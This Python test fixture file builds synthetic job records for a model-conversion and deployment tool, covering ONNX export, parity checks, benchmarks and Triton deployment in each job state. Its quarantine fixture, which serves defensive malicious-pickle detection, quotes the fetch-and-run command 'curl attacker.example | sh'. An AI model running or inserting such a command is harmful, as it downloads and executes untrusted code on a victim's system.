# ruff: noqa: E501 - sentences a person would read, as long as they are
"""Realistic accounts of jobs in every state, for the tests of the report and of the command line's display."""

from __future__ import annotations

import hashlib
import random
from datetime import UTC, datetime, timedelta
from typing import Any

from schemas.account import CandidateAccount, DeploymentAccount, JobAccount
from schemas.artifact import Artifact, ArtifactKind
from schemas.deployment import Deployment, DeploymentState, EntrySpec, Health
from schemas.descriptor import Format, KnownBy, ModelDescriptor, SecurityFinding, Severity, TensorSpec
from schemas.errors import ErrorDocument
from schemas.evidence import (
    BatchProof,
    ContenderVerdict,
    Machine,
    Measurement,
    OutputParity,
    ParityReport,
    ReferenceCase,
    ReferenceReport,
    Verdict,
)
from schemas.job import Job, JobState, Transition
from schemas.plan import Candidate, ConversionPlan, FindingLevel, PlanFinding, Step
from schemas.precision import Precision
from schemas.sidecar import Sidecar
from schemas.step_run import Isolation, Limits, StepRun, StepRunState, Usage
from schemas.target import DEFAULT_TOLERANCES, TargetProfile

START = datetime(2026, 3, 14, 9, 26, 53, tzinfo=UTC)
TARGET = TargetProfile()
MACHINE = Machine(
    cpu="Intel(R) Xeon(R) Platinum 8481C CPU @ 2.70GHz",
    cpu_flags=("avx2", "avx512f", "avx512_vnni", "amx_int8"),
    cores=2,
    threads=2,
    memory_bytes=25_769_803_776,
    os="Linux 6.6, Debian 12",
    versions={"onnxruntime": "1.31.0", "torch": "2.13.0", "transformers": "5.23.0", "numpy": "2.4.1"},
)
ISOLATION = Isolation(
    backend="bubblewrap",
    own_user=True,
    no_network=True,
    read_only_root=True,
    own_pids=True,
    seccomp=True,
    memory="cgroup-v1",
    processes="cgroup-v1",
    cpu="rlimit",
    notes=("The CPU controller is not writable here; CPU time is bounded per process.",),
)
SENTENCES_PROOF = BatchProof(holds=True, reason="Rows run together equal rows run one by one.", sizes=(2, 3, 8))


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def tensor(name: str, dtype: Any = "float32", *shape: int | str, by: KnownBy = KnownBy.PROBE) -> TensorSpec:
    return TensorSpec(name=name, dtype=dtype, shape=shape, known_by=by)


def measurement(contender: str, runtime: str, batch: int, median: float, seed: int = 7) -> Measurement:
    noise = random.Random(f"{contender}{batch}{seed}")
    rounds = tuple(median * noise.uniform(0.95, 1.05) for _ in range(15))
    return Measurement(
        contender=contender,
        runtime=runtime,
        batch=batch,
        rounds_ms=rounds,
        runs=600,
        median_ms=median,
        p95_ms=median * noise.uniform(1.08, 1.3),
        throughput_per_s=batch * 1000 / median,
    )


def cases() -> tuple[ReferenceCase, ...]:
    return (
        ReferenceCase(id="traced", source="random", axes={"batch": 1, "sequence": 16}, traced=True, rows=1),
        ReferenceCase(id="b3-s29", source="random", axes={"batch": 3, "sequence": 29}, rows=3),
        ReferenceCase(id="sentences", source="sentences", axes={"batch": 8, "sequence": 31}, rows=8),
    )


def parity(
    precision: Precision,
    outputs: tuple[OutputParity, ...],
    *,
    passed: bool = True,
    reason: str = "",
    inputs: tuple[TensorSpec, ...] = (),
    served: tuple[TensorSpec, ...] = (),
    accuracy: float | None = None,
) -> ParityReport:
    return ParityReport(
        passed=passed,
        reason=reason or "All outputs are within tolerance in all 3 cases.",
        precision=precision,
        tolerance=DEFAULT_TOLERANCES[precision],
        outputs=outputs,
        cases=cases(),
        real_samples=True,
        batching=SENTENCES_PROOF,
        accuracy=accuracy,
        inputs=inputs,
        served_outputs=served,
    )


def numeric(name: str, max_abs: float, cosine: float, *, passed: bool = True) -> OutputParity:
    return OutputParity(
        name=name,
        method="numeric",
        max_abs=max_abs,
        max_rel=max_abs * 31,
        cosine=cosine,
        passed=passed,
        worst_case="b3-s29",
    )


def run(
    kind: str,
    seconds: float,
    *,
    contender: str | None = None,
    options: dict[str, Any] | None = None,
    toolchain: str = "onnx",
    state: StepRunState = StepRunState.SUCCEEDED,
    at: float = 0,
    job: str = "job",
    error: ErrorDocument | None = None,
    cached: bool = False,
    attempt: int = 1,
) -> StepRun:
    started = START + timedelta(seconds=at)
    return StepRun(
        id=f"{kind}-{contender or 'job'}-{at:g}",
        job_id=job,
        attempt=attempt,
        contender=contender,
        kind=kind,
        toolchain=toolchain,
        options=options or {},
        state=state,
        cache_key=sha(kind),
        cached_from="run-of-before" if cached else None,
        inputs={"model": sha("model"), **({"reference": sha("reference")} if kind in ("parity", "measure") else {})},
        outputs={"model": sha(kind + "out")} if contender and kind != "parity" else {},
        error=error,
        versions={"torch": "2.13.0", "python": "3.11.2"} if toolchain == "torch" else {"onnxruntime": "1.31.0"},
        limits=Limits(),
        isolation=ISOLATION,
        usage=Usage(
            wall_s=seconds, cpu_s=seconds * 1.4, peak_memory_bytes=912_345_678, import_s=seconds / 3, run_s=seconds / 2
        ),
        log="[reference] 3 cases\n",
        started_at=started,
        ended_at=None if state is StepRunState.RUNNING else started + timedelta(seconds=seconds),
    )


def history(*states: tuple[JobState, float], attempt: int = 1) -> tuple[Transition, ...]:
    changes, before, at = [], None, START
    for state, seconds in states:
        changes.append(Transition(at=at, before=before, after=state, attempt=attempt))
        before, at = state, at + timedelta(seconds=seconds)
    return tuple(changes)


WHOLE_WAY = (
    (JobState.RECEIVED, 0.21),
    (JobState.ANALYZING, 6.4),
    (JobState.PLANNING, 0.05),
    (JobState.EXECUTING, 41.7),
    (JobState.MEASURING, 58.2),
    (JobState.DEPLOYING, 1.3),
)


def job(file: str, state: JobState, *, name: str | None = None, reason: str | None = None, **more: Any) -> Job:
    return Job(
        id="j_" + sha(file)[:12],
        key=sha("key" + file),
        uri=f"file:///srv/modelium/incoming/{file}",
        name=name,
        event_id="e_" + sha(file)[:12],
        artifact_sha256=sha(file),
        target=more.pop("target", TARGET),
        state=state,
        reason=reason,
        created_at=START,
        updated_at=START + timedelta(minutes=2),
        **more,
    )


def account(document: Job, **more: Any) -> JobAccount:
    size_bytes = more.pop("size_bytes", 90_868_376)
    kind = more.pop("kind", ArtifactKind.FILE)
    return JobAccount(
        job_id=document.id,
        state=document.state,
        reason=document.reason,
        hint=more.pop("hint", document.error.hint if document.error else None),
        job=document,
        artifact=Artifact(sha256=document.artifact_sha256, kind=kind, size_bytes=size_bytes),
        **more,
    )


def minilm(state: JobState = JobState.DEPLOYED) -> JobAccount:
    """A sentence encoder that was converted, won by its optimised graph; int8 is faster and not allowed."""
    inputs = tuple(tensor(n, "int64", "batch", "sequence") for n in ("input_ids", "attention_mask", "token_type_ids"))
    outputs = (
        tensor("last_hidden_state", "float32", "batch", "sequence", 384),
        tensor("pooler_output", "float32", "batch", 384),
    )
    document = job("all-MiniLM-L6-v2", state, name="all-minilm-l6-v2")
    descriptor = ModelDescriptor(
        artifact_sha256=document.artifact_sha256,
        format=Format.HUGGINGFACE,
        size_bytes=91_569_408,
        framework="pytorch",
        framework_version="2.1.0",
        architecture="BertModel",
        task="feature-extraction",
        inputs=inputs,
        outputs=outputs,
        operators={"linear": 36, "layer_norm": 13, "gelu": 6, "softmax": 6, "embedding": 3},
        parameter_count=22_713_216,
        parameter_bytes=90_852_864,
        parameter_dtypes={"float32": 22_713_216},
        flops=693_633_024,
        memory_bytes=214_000_000,
        tokenizer="BertTokenizerFast",
        license="apache-2.0",
        files=("config.json", "model.safetensors", "tokenizer.json", "vocab.txt"),
        known_by={
            "format": KnownBy.HEADER,
            "framework": KnownBy.HEADER,
            "architecture": KnownBy.HEADER,
            "task": KnownBy.GUESS,
            "parameter_count": KnownBy.HEADER,
            "parameter_bytes": KnownBy.HEADER,
            "flops": KnownBy.PROBE,
            "memory_bytes": KnownBy.GUESS,
            "license": KnownBy.SIDECAR,
            "tokenizer": KnownBy.HEADER,
        },
        notes=("The pooler is not used by sentence-transformers; it pools the mean of last_hidden_state.",),
        findings=(
            SecurityFinding(
                code="weights-safetensors",
                severity=Severity.INFO,
                where="model.safetensors",
                message="The weights are safetensors, which holds no code.",
            ),
        ),
    )
    export = Step(
        kind="huggingface_onnx",
        toolchain="torch",
        options={"exporter": "torchscript", "opset": 17},
        reason="The TorchScript-based exporter writes BERT's attention as operators that ONNX Runtime fuses.",
        fallbacks=(
            Step(
                kind="huggingface_onnx",
                toolchain="torch",
                options={"exporter": "dynamo", "opset": 20},
                reason="The torch.export-based exporter handles what tracing cannot.",
            ),
        ),
    )
    optimise = Step(
        kind="onnx_optimize",
        toolchain="onnx",
        options={"level": "extended"},
        reason="Fusing attention and layer norm saves memory traffic.",
    )
    quantise = Step(
        kind="onnx_int8",
        toolchain="onnx",
        options={"per_channel": True, "weight_type": "int8"},
        reason="This CPU has VNNI; 8-bit weights halve the time of matrix products.",
    )
    plan = ConversionPlan(
        planner="rules",
        reason="A BERT encoder: export it once, then try the fused graph and 8-bit weights.",
        target=TARGET,
        candidates=(
            Candidate(
                id="onnx-fp32",
                format=Format.ONNX,
                precision=Precision.FP32,
                steps=(export,),
                reason="The plain export.",
            ),
            Candidate(
                id="onnx-optimized",
                format=Format.ONNX,
                precision=Precision.FP32,
                steps=(export, optimise),
                reason="The same numbers with fewer kernels.",
            ),
            Candidate(
                id="onnx-int8",
                format=Format.ONNX,
                precision=Precision.INT8,
                steps=(export, optimise, quantise),
                reason="A quarter of the size; shown, and allowed to win only if the target says so.",
            ),
        ),
    )

    def contender(
        id_: str,
        precision: Precision,
        size_bytes: int,
        b1: float,
        b8: float,
        *parities: OutputParity,
        state: Any = "passed",
    ) -> CandidateAccount:
        return CandidateAccount(
            id=id_,
            precision=precision,
            state=state,
            size_bytes=size_bytes,
            model_sha256=sha(id_),
            parity=parity(precision, parities, inputs=inputs, served=outputs),
            measurements=(measurement(id_, "onnxruntime", 1, b1), measurement(id_, "onnxruntime", 8, b8)),
        )

    candidates = (
        CandidateAccount(
            id="original",
            precision=Precision.FP32,
            state="passed",
            size_bytes=91_569_408,
            measurements=(measurement("original", "torch", 1, 14.318), measurement("original", "torch", 8, 61.92)),
        ),
        contender(
            "onnx-fp32",
            Precision.FP32,
            90_412_110,
            6.9114,
            43.512,
            numeric("last_hidden_state", 2.4e-6, 0.9999999994),
            numeric("pooler_output", 8.9e-7, 0.9999999997),
        ),
        contender(
            "onnx-optimized",
            Precision.FP32,
            90_387_204,
            5.0412,
            38.271,
            numeric("last_hidden_state", 3.1e-6, 0.9999999991),
            numeric("pooler_output", 1.1e-6, 0.9999999995),
        ),
        contender(
            "onnx-int8",
            Precision.INT8,
            23_018_112,
            2.1873,
            17.044,
            numeric("last_hidden_state", 0.214, 0.99137),
            numeric("pooler_output", 0.081, 0.99412),
        ),
    )
    verdict = Verdict(
        winner="onnx-optimized",
        unchanged=False,
        reason="onnx-optimized answers like the original and is 2.84× as fast at batch 1, well beyond the noise.",
        basis="latency at batch 1",
        contenders=(
            ContenderVerdict(
                contender="original",
                outcome="passed",
                reason="The baseline; Triton's onnxruntime backend does not serve a Hugging Face folder.",
            ),
            ContenderVerdict(
                contender="onnx-fp32",
                outcome="passed",
                reason="Passes parity; onnx-optimized is faster.",
                speedup=2.072,
                speedup_low=2.031,
                speedup_high=2.118,
            ),
            ContenderVerdict(
                contender="onnx-optimized",
                outcome="winner",
                reason="Passes parity and is the fastest of those that may win.",
                speedup=2.843,
                speedup_low=2.774,
                speedup_high=2.906,
            ),
            ContenderVerdict(
                contender="onnx-int8",
                outcome="not_allowed",
                reason="Fastest of all, but int8 is lossy and the target allows fp32 only; add int8 to target.precisions to let it win.",
                speedup=6.546,
                speedup_low=6.388,
                speedup_high=6.71,
            ),
        ),
    )
    steps = (
        run("analyze", 1.12, at=0.2),
        run("probe", 5.28, toolchain="torch", at=1.4),
        run("reference", 6.4, toolchain="torch", at=7),
        run("huggingface_onnx", 14.2, contender="onnx-fp32", options=export.options, toolchain="torch", at=14),
        run("parity", 1.9, contender="onnx-fp32", at=29, options={"precision": "fp32"}),
        run(
            "huggingface_onnx",
            0.01,
            contender="onnx-optimized",
            options=export.options,
            toolchain="torch",
            at=31,
            cached=True,
        ),
        run("onnx_optimize", 3.3, contender="onnx-optimized", options=optimise.options, at=31),
        run("parity", 1.8, contender="onnx-optimized", at=35, options={"precision": "fp32"}),
        run(
            "huggingface_onnx",
            0.01,
            contender="onnx-int8",
            options=export.options,
            toolchain="torch",
            at=37,
            cached=True,
        ),
        run("onnx_optimize", 0.01, contender="onnx-int8", options=optimise.options, at=37, cached=True),
        run("onnx_int8", 4.4, contender="onnx-int8", options=quantise.options, at=37),
        run("parity", 1.7, contender="onnx-int8", at=42, options={"precision": "int8"}),
        run("measure", 58.1, at=48, options={"batch_sizes": [1, 8]}),
    )
    return account(
        document,
        kind=ArtifactKind.FOLDER,
        size_bytes=91_569_408,
        descriptor=descriptor,
        plan=plan,
        plan_findings=(
            PlanFinding(
                level=FindingLevel.WARNING,
                code="lossy-shown-only",
                pointer="/candidates/2",
                message="onnx-int8 cannot win: the target allows fp32 only.",
            ),
        ),
        reference=ReferenceReport(cases=cases(), outputs=outputs, batching=SENTENCES_PROOF),
        candidates=candidates,
        machine=MACHINE,
        verdict=verdict,
        winner="onnx-optimized",
        deployment=deployed(document, "onnx-optimized", inputs, outputs, 3),
        report="/srv/modelium/reports/all-minilm-l6-v2/index.html",
        steps=steps,
        history=history(*WHOLE_WAY, (state, 0)),
    )


def deployed(
    document: Job,
    contender: str,
    inputs: tuple[TensorSpec, ...],
    outputs: tuple[TensorSpec, ...],
    version: int,
    labels: tuple[str, ...] = (),
) -> DeploymentAccount:
    name = document.name or "model"
    entry = f"/srv/modelium/model_repository/{name}"
    config = f'name: "{name}"\nbackend: "onnxruntime"\nmax_batch_size: 8\n' + "".join(
        f'input {{\n  name: "{t.name}"\n  data_type: TYPE_{t.dtype.upper()}\n  dims: [ -1 ]\n}}\n' for t in inputs
    )
    client = (
        "import numpy as np\nimport tritonclient.grpc as triton\n\n"
        'client = triton.InferenceServerClient("localhost:8001")\n'
        + "".join(f'{t.name} = triton.InferInput("{t.name}", [1, 16], "INT64")\n' for t in inputs)
        + f'answer = client.infer("{name}", [{", ".join(t.name for t in inputs)}])\n'
        + f'print(answer.as_numpy("{outputs[0].name}").shape)\n'
    )
    return DeploymentAccount(
        name=name,
        version=version,
        entry=entry,
        manifest=f"/srv/modelium/manifests/{name}.yaml",
        report=f"/srv/modelium/reports/{name}/index.html",
        deployment=Deployment(
            name=name,
            version=version,
            job_id=document.id,
            contender=contender,
            model_sha256=sha(contender),
            state=DeploymentState.ACTIVE,
            entry=entry,
            manifest=f"/srv/modelium/manifests/{name}.yaml",
            config=config,
            spec=EntrySpec(
                name=name,
                version=version,
                inputs=inputs,
                outputs=outputs,
                batching=SENTENCES_PROOF,
                max_batch_size=8,
                labels=labels,
            ),
            health=Health(state="ready", detail="onnxruntime loaded the entry and answered."),
            previous_version=version - 1 or None,
            created_at=START,
        ),
        next_steps={
            "Start Triton": "tritonserver --model-repository /srv/modelium/model_repository",
            "Ask it from Python": client,
            "Apply to KServe": f"kubectl apply -f /srv/modelium/manifests/{name}.yaml",
            "Try it here": f"modelium try {name}",
        },
    )


def sklearn_labels() -> JobAccount:
    """A pipeline with label and probability outputs and held-out accuracy; the ONNX file is larger."""
    document = job("wine-pipeline.joblib", JobState.DEPLOYED, name="wine-pipeline")
    inputs = (tensor("X", "float32", "batch", 13, by=KnownBy.HEADER),)
    outputs = (tensor("label", "string", "batch"), tensor("probabilities", "float32", "batch", 3))
    fitted = (
        OutputParity(name="label", method="agreement", agreement=1.0, passed=True),
        numeric("probabilities", 4.1e-7, 0.99999999998),
    )
    return account(
        document,
        size_bytes=214_332,
        descriptor=ModelDescriptor(
            artifact_sha256=document.artifact_sha256,
            format=Format.SKLEARN,
            size_bytes=214_332,
            framework="scikit-learn",
            framework_version="1.8.0",
            architecture="Pipeline(StandardScaler, RandomForestClassifier)",
            task="tabular-classification",
            inputs=inputs,
            outputs=outputs,
            labels=("barolo", "grignolino", "barbera"),
            known_by={
                "format": KnownBy.HEADER,
                "framework": KnownBy.HEADER,
                "architecture": KnownBy.HEADER,
                "labels": KnownBy.SIDECAR,
                "task": KnownBy.SIDECAR,
            },
        ),
        sidecar=Sidecar(name="wine-pipeline", samples="wine.npz", labels=("barolo", "grignolino", "barbera")),
        plan=ConversionPlan(
            planner="rules",
            reason="A pickled pipeline: convert it operator by operator.",
            target=TARGET,
            candidates=(
                Candidate(
                    id="onnx-fp32",
                    format=Format.ONNX,
                    precision=Precision.FP32,
                    reason="The only way into Triton.",
                    steps=(
                        Step(
                            kind="sklearn_onnx",
                            toolchain="sklearn",
                            options={"opset": 17},
                            reason="Every operator of it has a converter.",
                        ),
                    ),
                ),
            ),
        ),
        reference=ReferenceReport(
            cases=cases(), outputs=outputs, batching=SENTENCES_PROOF, has_labels=True, accuracy=0.9722
        ),
        candidates=(
            CandidateAccount(
                id="original",
                precision=Precision.FP32,
                state="passed",
                size_bytes=214_332,
                measurements=(
                    measurement("original", "sklearn", 1, 3.1213),
                    measurement("original", "sklearn", 8, 3.244),
                ),
            ),
            CandidateAccount(
                id="onnx-fp32",
                precision=Precision.FP32,
                state="passed",
                size_bytes=311_020,
                parity=parity(Precision.FP32, fitted, inputs=inputs, served=outputs, accuracy=0.9722),
                measurements=(
                    measurement("onnx-fp32", "onnxruntime", 1, 0.0213),
                    measurement("onnx-fp32", "onnxruntime", 8, 0.0524),
                ),
            ),
        ),
        machine=MACHINE,
        verdict=Verdict(
            winner="onnx-fp32",
            unchanged=False,
            reason="onnx-fp32 gives the same labels and is 147× as fast at batch 1.",
            basis="latency at batch 1",
            contenders=(
                ContenderVerdict(
                    contender="original", outcome="passed", reason="The baseline; Triton does not serve a pickle."
                ),
                ContenderVerdict(
                    contender="onnx-fp32",
                    outcome="winner",
                    reason="Passes parity.",
                    speedup=146.5,
                    speedup_low=139.2,
                    speedup_high=151.8,
                ),
            ),
        ),
        winner="onnx-fp32",
        deployment=deployed(document, "onnx-fp32", inputs, outputs, 1, labels=("barolo", "grignolino", "barbera")),
        steps=(
            run("analyze", 0.6),
            run("sklearn_onnx", 2.2, contender="onnx-fp32", options={"opset": 17}, toolchain="sklearn"),
        ),
        history=history(*WHOLE_WAY, (JobState.DEPLOYED, 0)),
    )


def unchanged_onnx() -> JobAccount:
    """An ONNX file that was already as good as it gets."""
    document = job(
        "mobilenet.onnx",
        JobState.UNCHANGED,
        name="mobilenet",
        reason="The original is served as it is: the best candidate is 1.01× as fast, which is within the noise.",
    )
    inputs, outputs = (tensor("input", "float32", 1, 3, 224, 224),), (tensor("logits", "float32", 1, 1000),)
    good = (numeric("logits", 0.0, 1.0),)
    return account(
        document,
        size_bytes=13_964_571,
        descriptor=ModelDescriptor(
            artifact_sha256=document.artifact_sha256,
            format=Format.ONNX,
            size_bytes=13_964_571,
            framework="onnx",
            producer="pytorch 2.4",
            opset=17,
            inputs=inputs,
            outputs=outputs,
            parameter_count=3_487_816,
            operators={"Conv": 52, "Clip": 35, "Add": 10, "GlobalAveragePool": 1, "Gemm": 1, "Flatten": 1},
            known_by={
                "format": KnownBy.HEADER,
                "opset": KnownBy.HEADER,
                "producer": KnownBy.HEADER,
                "parameter_count": KnownBy.HEADER,
            },
            notes=("The batch dimension is fixed at 1: Triton serves it with max_batch_size 0.",),
        ),
        plan=ConversionPlan(
            planner="rules",
            reason="Already ONNX: see whether folding and fusing helps.",
            target=TARGET,
            candidates=(
                Candidate(
                    id="original",
                    format=Format.ONNX,
                    precision=Precision.FP32,
                    steps=(),
                    reason="The target serves this format.",
                ),
                Candidate(
                    id="onnx-optimized",
                    format=Format.ONNX,
                    precision=Precision.FP32,
                    reason="Fold and fuse.",
                    steps=(
                        Step(
                            kind="onnx_optimize",
                            toolchain="onnx",
                            options={"level": "extended"},
                            reason="Offline fusion saves start-up.",
                        ),
                    ),
                ),
            ),
        ),
        candidates=(
            CandidateAccount(
                id="original",
                precision=Precision.FP32,
                state="passed",
                size_bytes=13_964_571,
                parity=parity(Precision.FP32, good, inputs=inputs, served=outputs),
                measurements=(measurement("original", "onnxruntime", 1, 4.412),),
            ),
            CandidateAccount(
                id="onnx-optimized",
                precision=Precision.FP32,
                state="passed",
                size_bytes=13_951_200,
                parity=parity(Precision.FP32, good, inputs=inputs, served=outputs),
                measurements=(measurement("onnx-optimized", "onnxruntime", 1, 4.371),),
            ),
        ),
        machine=MACHINE,
        verdict=Verdict(
            winner="original",
            unchanged=True,
            basis="latency at batch 1",
            reason="The original is served as it is: the best candidate is 1.01× as fast, which is within the noise.",
            contenders=(
                ContenderVerdict(contender="original", outcome="winner", reason="Nothing was better beyond the noise."),
                ContenderVerdict(
                    contender="onnx-optimized",
                    outcome="passed",
                    reason="Its interval includes 1×.",
                    speedup=1.009,
                    speedup_low=0.992,
                    speedup_high=1.027,
                ),
            ),
        ),
        winner="original",
        deployment=deployed(document, "original", inputs, outputs, 1),
        steps=(
            run("analyze", 0.6),
            run("probe", 0.9),
            run("onnx_optimize", 1.2, contender="onnx-optimized", options={"level": "extended"}),
        ),
        history=history(*WHOLE_WAY, (JobState.UNCHANGED, 0)),
    )


def truncated() -> JobAccount:
    """A torch archive that lost its end on the way."""
    error = ErrorDocument(
        code="model_failed",
        message="The file ends early: it has 524,288 bytes, and its zip directory is missing.",
        hint="Copy it again and compare the checksums; a torch archive ends with the central directory of a zip file.",
    )
    return account(
        job("resnet50-truncated.pt", JobState.FAILED, reason=error.message, error=error),
        size_bytes=524_288,
        descriptor=ModelDescriptor(
            artifact_sha256=sha("resnet50-truncated.pt"),
            format=Format.UNKNOWN,
            size_bytes=524_288,
            known_by={"format": KnownBy.GUESS},
        ),
        steps=(run("analyze", 0.7, state=StepRunState.FAILED, error=error),),
        history=history((JobState.RECEIVED, 0.1), (JobState.ANALYZING, 0.8), (JobState.FAILED, 0)),
    )


def quarantined() -> JobAccount:
    """A pickle that calls os.system when it is loaded."""
    error = ErrorDocument(
        code="quarantined",
        message="Loading this file would run os.system: it is an attack, not a model.",
        hint="Delete it and tell whoever sent it. It stays in quarantine and is never loaded.",
    )
    found = (
        SecurityFinding(
            code="pickle-global",
            severity=Severity.DANGER,
            where="data.pkl, offset 12",
            subject="os.system",
            message="The pickle imports a function that runs commands.",
        ),
        SecurityFinding(
            code="pickle-reduce",
            severity=Severity.DANGER,
            where="data.pkl, offset 61",
            subject="os.system",
            message="It is called with the text 'curl attacker.example | sh' on load.",
        ),
        SecurityFinding(
            code="pickle-global",
            severity=Severity.UNKNOWN,
            where="data.pkl, offset 90",
            subject="mylib.layers.Swish",
            message="This global is on no list.",
        ),
    )
    return account(
        job("free-gpt5.pkl", JobState.QUARANTINED, reason=error.message, error=error),
        size_bytes=312,
        descriptor=ModelDescriptor(
            artifact_sha256=sha("free-gpt5.pkl"),
            format=Format.PICKLE,
            size_bytes=312,
            findings=found,
            known_by={"format": KnownBy.HEADER},
        ),
        steps=(run("analyze", 0.5),),
        history=history((JobState.RECEIVED, 0.1), (JobState.ANALYZING, 0.8), (JobState.QUARANTINED, 0)),
    )


def needs_input() -> JobAccount:
    """Weights without the class they belong to."""
    error = ErrorDocument(
        code="needs_input",
        message="Which class do these weights belong to? The file holds 62 tensors and no architecture.",
        hint="Put a file model.py with the class beside it, and a sidecar digits.pth.modelium.yaml with:\nmodule:\n  file: model.py\n  class_name: DigitsNet",
    )
    return account(
        job("digits.pth", JobState.NEEDS_INPUT, reason=error.message, error=error),
        size_bytes=1_204_112,
        descriptor=ModelDescriptor(
            artifact_sha256=sha("digits.pth"),
            format=Format.TORCH_STATE_DICT,
            size_bytes=1_204_112,
            framework="pytorch",
            parameter_count=299_882,
            parameter_dtypes={"float32": 299_882},
            known_by={"format": KnownBy.HEADER, "parameter_count": KnownBy.HEADER},
        ),
        steps=(run("analyze", 0.5),),
        history=history((JobState.RECEIVED, 0.1), (JobState.ANALYZING, 0.8), (JobState.NEEDS_INPUT, 0)),
    )


def causal_lm() -> JobAccount:
    """A language model, which the target cannot serve."""
    error = ErrorDocument(
        code="unsupported",
        message="This is a causal language model (LlamaForCausalLM); Triton's onnxruntime backend does not serve text generation.",
        hint="Serve it with vLLM or TensorRT-LLM until Modelium has a target for it.",
    )
    return account(
        job("tiny-llama", JobState.FAILED, reason=error.message, error=error),
        kind=ArtifactKind.FOLDER,
        size_bytes=4_120_448,
        descriptor=ModelDescriptor(
            artifact_sha256=sha("tiny-llama"),
            format=Format.HUGGINGFACE,
            size_bytes=4_120_448,
            architecture="LlamaForCausalLM",
            task="text-generation",
            parameter_count=1_024_512,
            tokenizer="LlamaTokenizerFast",
            known_by={
                "format": KnownBy.HEADER,
                "architecture": KnownBy.HEADER,
                "task": KnownBy.HEADER,
                "parameter_count": KnownBy.HEADER,
            },
        ),
        steps=(run("analyze", 0.9),),
        history=history((JobState.RECEIVED, 0.1), (JobState.ANALYZING, 1.1), (JobState.FAILED, 0)),
    )


def cancelled() -> JobAccount:
    """Stopped by a person before anything was known."""
    return account(
        job("big.onnx", JobState.CANCELLED, reason="Cancelled by a person.", attempt=2),
        history=history((JobState.RECEIVED, 3.1), (JobState.CANCELLED, 0), attempt=2),
    )


def running() -> JobAccount:
    """In the middle of its conversions."""
    whole = minilm(JobState.EXECUTING)
    failed = ErrorDocument(code="conversion_failed", message="Operator aten::foo has no ONNX form.")
    options = whole.plan.candidates[0].steps[0].options if whole.plan else {}
    fallback = {"exporter": "dynamo", "opset": 20}
    return whole.model_copy(
        update={
            "verdict": None,
            "winner": None,
            "deployment": None,
            "machine": None,
            "report": None,
            "candidates": tuple(
                CandidateAccount(id=c.id, precision=c.precision, state="pending") for c in whole.candidates[1:]
            ),
            "steps": (
                *whole.steps[:3],
                run(
                    "huggingface_onnx",
                    14.2,
                    contender="onnx-fp32",
                    options=options,
                    toolchain="torch",
                    at=14,
                    state=StepRunState.FAILED,
                    error=failed,
                ),
                run("huggingface_onnx", 22.2, contender="onnx-fp32", options=fallback, toolchain="torch", at=29),
                run(
                    "huggingface_onnx",
                    9.2,
                    contender="onnx-optimized",
                    options=options,
                    toolchain="torch",
                    at=40,
                    state=StepRunState.RUNNING,
                ),
            ),
            "history": whole.history[:4],
        }
    )


def stress(contenders: int = 60) -> JobAccount:
    """Sixty candidates, huge names, a hundred thousand labels."""
    whole = minilm()
    noise = random.Random(3)
    rows = [whole.candidates[0]]
    verdicts = list(whole.verdict.contenders[:1]) if whole.verdict else []
    for i in range(contenders):
        id_ = f"candidate-{i:02d}-" + "with-an-exceedingly-long-identifier-of-sixty-three-characters"[: 63 - 13]
        failed = i % 7 == 3
        median = noise.uniform(1.5, 30)
        rows.append(
            CandidateAccount(
                id=id_,
                precision=Precision.INT8 if i % 2 else Precision.FP32,
                state="failed" if failed else "passed",
                size_bytes=noise.randint(10**6, 10**11),
                reason="x" * 400 if failed else None,
                parity=None
                if failed
                else parity(
                    Precision.FP32,
                    tuple(
                        numeric("o" * 250 + str(k), 10 ** -noise.uniform(1, 9), 1 - 10 ** -noise.uniform(1, 12))
                        for k in range(3)
                    ),
                ),
                measurements=()
                if failed
                else tuple(measurement(id_, "onnxruntime", b, median * b**0.7) for b in (1, 2, 4, 8, 16)),
            )
        )
        verdicts.append(
            ContenderVerdict(
                contender=id_,
                outcome="failed" if failed else "passed",
                reason="r" * 480,
                speedup=None if failed else 14 / median,
                speedup_low=None if failed else 13 / median,
                speedup_high=None if failed else 15 / median,
            )
        )
    winner = rows[1].id
    descriptor = whole.descriptor
    assert descriptor is not None and whole.verdict is not None
    return whole.model_copy(
        update={
            "candidates": tuple(rows),
            "winner": winner,
            "job": whole.job.model_copy(
                update={"name": None, "uri": "file:///srv/" + "an-endless-file-name-" * 12 + ".onnx"}
            ),
            "verdict": whole.verdict.model_copy(update={"winner": winner, "contenders": tuple(verdicts)}),
            "descriptor": descriptor.model_copy(
                update={"labels": tuple(f"label {i}" for i in range(100_000)), "license": "L" * 3000}
            ),
        }
    )


EVERY = {
    "deployed": minilm,
    "labels": sklearn_labels,
    "unchanged": unchanged_onnx,
    "failed": truncated,
    "quarantined": quarantined,
    "needs_input": needs_input,
    "causal_lm": causal_lm,
    "cancelled": cancelled,
    "running": running,
    "stress": stress,
}
